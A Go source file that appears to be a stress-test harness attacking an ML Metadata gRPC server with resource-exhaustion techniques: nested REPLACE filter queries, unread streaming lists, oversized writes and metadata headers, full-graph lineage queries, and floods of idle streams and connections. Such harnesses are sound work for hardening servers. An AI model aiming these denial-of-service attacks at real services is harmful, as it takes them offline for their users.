package attack

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/metadata"

	"github.com/mlmd-go/sdk/generated/mlmdpb"
)

// A counter counts what attackers have done.
type counter = atomic.Int64

// An attack is one way to harm the server.
type attack struct {
	name string
	run  func(ctx context.Context, address string, done *counter) // until ctx ends
}

// attacks are all attacks. Those beside each other run at once.
var attacks = []attack{
	{"filters that make large texts", calls(3, largeText)},
	{"lists of all artifacts that are not received", calls(4, unreceivedList)},
	{"300 writes of 2.8 MB that are canceled", calls(300, largeWrite)},
	{"60 streams with 15 MB of metadata", calls(60, largeMetadata)},
	{"lineage of a full graph", calls(4, lineage)},
	{"events of all artifacts of a full graph", calls(4, eventsOfAll)},
	{"200 replies of 3 MiB with a window of 0", windowOfZero},
	{"60,000 streams of Watch and reflection", endlessStreams},
	{"20,000 streams without a message", emptyStreams},
	{"200 requests of 4 MB without an end", unfinishedRequests},
	{"7,000 connections without calls", idleConnections},
	{"references to 2 GiB of headers", headerReferences},
	{"5,000 small replies that are not received", unreceivedReplies},
}

// calls makes n calls at once, over one connection, again and again.
func calls(
	n int, one func(context.Context, mlmdpb.MetadataStoreServiceClient, *grpc.ClientConn),
) func(context.Context, string, *counter) {
	return func(ctx context.Context, address string, done *counter) {
		conn, err := grpc.NewClient(address, grpc.WithTransportCredentials(insecure.NewCredentials()),
			grpc.WithDefaultCallOptions(grpc.MaxCallRecvMsgSize(1<<30)))
		if err != nil {
			panic(err)
		}
		defer conn.Close()
		rpc := mlmdpb.NewMetadataStoreServiceClient(conn)
		var all sync.WaitGroup
		for range n {
			all.Go(func() {
				for ctx.Err() == nil {
					one(ctx, rpc, conn)
					done.Add(1)
				}
			})
		}
		all.Wait()
	}
}

func largeText(ctx context.Context, rpc mlmdpb.MetadataStoreServiceClient, _ *grpc.ClientConn) {
	text := "name"
	for range 20 {
		text = "REPLACE(" + text + ",'1','11111111')"
	}
	_, _ = rpc.GetContexts(ctx, &mlmdpb.GetContextsRequest{Options: &mlmdpb.ListOperationOptions{
		FilterQuery: new("LENGTH(" + text + ") > 1000000000"),
	}})
}

func unreceivedList(ctx context.Context, _ mlmdpb.MetadataStoreServiceClient, conn *grpc.ClientConn) {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	stream, err := conn.NewStream(ctx, &grpc.StreamDesc{ServerStreams: true},
		mlmdpb.MetadataStoreService_GetArtifacts_FullMethodName)
	if err != nil {
		pause(ctx, time.Second)
		return
	}
	if stream.SendMsg(&mlmdpb.GetArtifactsRequest{}) == nil && stream.CloseSend() == nil {
		pause(ctx, 5*time.Second)
	}
}

var largeContext = &mlmdpb.PutContextsRequest{Contexts: []*mlmdpb.Context{{
	Id: new(int64(1)), TypeId: &contextType, Name: new("0"), CustomProperties: map[string]*mlmdpb.Value{
		"large": {Value: &mlmdpb.Value_StringValue{StringValue: strings.Repeat("x", 2_800_000)}},
	},
}}}

func largeWrite(ctx context.Context, rpc mlmdpb.MetadataStoreServiceClient, _ *grpc.ClientConn) {
	ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	_, _ = rpc.PutContexts(ctx, largeContext)
}

func largeMetadata(ctx context.Context, rpc mlmdpb.MetadataStoreServiceClient, _ *grpc.ClientConn) {
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	ctx = metadata.AppendToOutgoingContext(ctx, "x-large", strings.Repeat("x", 15_000_000))
	_, _ = rpc.GetContextsByID(ctx, &mlmdpb.GetContextsByIDRequest{})
	pause(ctx, time.Second)
}

func lineage(ctx context.Context, rpc mlmdpb.MetadataStoreServiceClient, _ *grpc.ClientConn) {
	_, _ = rpc.GetLineageSubgraph(ctx, &mlmdpb.GetLineageSubgraphRequest{
		LineageSubgraphQueryOptions: &mlmdpb.LineageSubgraphQueryOptions{
			StartingNodes: &mlmdpb.LineageSubgraphQueryOptions_StartingArtifacts{
				StartingArtifacts: &mlmdpb.LineageSubgraphQueryOptions_StartingNodes{FilterQuery: new("id = 1")},
			},
			MaxNumHops: new(int64(2)),
		},
	})
}

func eventsOfAll(ctx context.Context, rpc mlmdpb.MetadataStoreServiceClient, _ *grpc.ClientConn) {
	in := &mlmdpb.GetEventsByArtifactIDsRequest{}
	for i := range stored.graph {
		in.ArtifactIds = append(in.ArtifactIds, int64(i+1))
	}
	_, _ = rpc.GetEventsByArtifactIDs(ctx, in)
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// failed prints why an attacker cannot go on, and waits before the next attempt.
func failed(ctx context.Context, err error) {
	if ctx.Err() == nil {
		fmt.Println(err)
		pause(ctx, time.Second)
	}
}
